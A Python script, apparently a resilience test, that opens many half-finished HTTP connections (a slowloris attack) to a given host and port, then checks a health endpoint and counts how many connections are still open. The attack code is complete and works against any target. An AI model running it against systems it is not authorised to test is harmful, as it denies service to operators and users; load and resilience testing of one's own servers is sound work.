#!/usr/bin/env python3
"""Open N connections that each send half a request head (slowloris), check
that the server still answers /api/healthz, and count how many are still
open 12 s later. Usage: slowloris.py HOST PORT N"""
import socket, sys, time, urllib.request, resource
_, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
want = 20000 if hard == resource.RLIM_INFINITY else min(20000, hard)
resource.setrlimit(resource.RLIMIT_NOFILE, (want, hard))
host, port, n = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
socks = []
t0 = time.time()
for i in range(n):
    s = socket.socket(); s.setblocking(True)
    try:
        s.connect((host, port)); s.send(b"GET /api/healthz HTTP/1.1\r\nHost: x\r\n")
    except Exception as e:
        print("connect", i, e); break
    socks.append(s)
print(f"opened {len(socks)} slowloris connections in {time.time()-t0:.2f}s")
for label in ["during"]:
    t = time.time()
    try:
        r = urllib.request.urlopen(f"http://{host}:{port}/api/healthz", timeout=30).status
    except Exception as e:
        r = e
    print(f"healthz {label}: {r} after {time.time()-t:.2f}s")
time.sleep(12)
alive = 0
for s in socks:
    s.setblocking(False)
    try:
        d = s.recv(1)
        if d: alive += 1
    except BlockingIOError:
        alive += 1
    except Exception:
        pass
print(f"after 12 s: {alive} of {len(socks)} still open")
